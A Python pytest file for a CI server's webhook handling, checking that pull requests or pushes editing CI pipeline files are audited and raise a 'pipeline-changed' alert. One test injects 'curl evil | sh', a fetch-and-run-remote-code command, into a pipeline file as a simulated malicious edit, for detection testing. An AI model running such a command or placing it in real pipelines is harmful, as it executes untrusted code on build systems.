"""A delivery whose commit edits CI files is recorded as ``source.changed`` (issue 14: a change
under ``.bastion/`` raises an alert), so the monitor's ``pipeline-changed`` rule alerts even
though the pull request's run uses the base branch's pipeline (whose digest is unchanged)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from bastion.audit import AuditLog
from bastion.monitor import AlertStore, Evaluator, PlainText, builtin_rules
from bastion.server.webhook_changes import ci_changes
from tests.server.test_webhooks import PIPELINE, Forged, git, make_forged
from tests.server.webhook_payloads import github_pull, github_push


@pytest.fixture
def forged(tmp_path: Path) -> Iterator[Forged]:
    made = make_forged(tmp_path)
    try:
        yield made
    finally:
        made.server.client.close()
        made.server.db.dispose()


def _pull_request(forged: Forged, number: int, **files: str) -> str:
    base = git(forged.work, "rev-parse", "HEAD")
    head = forged.commit("pr", **files)
    forged.push(f"HEAD:refs/pull/{number}/head")
    git(forged.work, "reset", "-q", "--hard", base)
    return head


def _changed(forged: Forged) -> list[dict[str, object]]:
    return [dict(e.details) for e in forged.server.audit.events if e.action == "source.changed"]


def test_a_pull_request_editing_the_pipeline_is_recorded_and_alerted(forged: Forged) -> None:
    edited = PIPELINE.replace("echo hi", "curl evil | sh")
    head = _pull_request(forged, 5, **{".bastion/pipeline.yml": edited, "src.py": "x = 1\n"})
    assert forged.github("pull_request", github_pull("opened", 5, head)).status_code == 202
    [details] = _changed(forged)
    assert details["files"] == [{"path": ".bastion/pipeline.yml", "change": "modified"}]
    assert (details["commit"], details["ref"], details["run"]) == (head, "refs/pull/5/head", 1)
    log = AuditLog(forged.server.db, witness=None)
    for event in forged.server.audit.events:
        log.append(event)
    Evaluator(forged.server.db, builtin_rules(), PlainText()).run_once(log.entries)
    alerts = AlertStore(forged.server.db).list()
    assert [(a.rule, a.title) for a in alerts] == [
        ("pipeline-changed", "CI file .bastion/pipeline.yml modified in app")
    ]


def test_a_change_outside_ci_files_records_nothing(forged: Forged) -> None:
    head = _pull_request(forged, 6, **{"src.py": "x = 2\n"})
    assert forged.github("pull_request", github_pull("opened", 6, head)).status_code == 202
    head = forged.commit("feature", **{"README": "hi\n"})
    forged.push("HEAD:refs/heads/feature")
    assert forged.github("push", github_push("refs/heads/feature", head)).status_code == 202
    assert _changed(forged) == []


def test_a_branch_adding_a_workflow_file_is_recorded_as_added(forged: Forged) -> None:
    head = forged.commit("wf", **{".github/workflows/x.yml": "on: push\n"})
    forged.push("HEAD:refs/heads/feature")
    assert forged.github("push", github_push("refs/heads/feature", head)).status_code == 202
    [details] = _changed(forged)
    assert details["files"] == [{"path": ".github/workflows/x.yml", "change": "added"}]


def test_without_a_reference_every_ci_file_counts_as_added(forged: Forged) -> None:
    head = git(forged.work, "rev-parse", "HEAD")
    assert ci_changes(forged.work, None, head) == [
        {"path": ".bastion/pipeline.yml", "change": "added"}
    ]
    # A reference git cannot compare with fails closed the same way.
    assert ci_changes(forged.work, "refs/heads/nope", head) == ci_changes(forged.work, None, head)
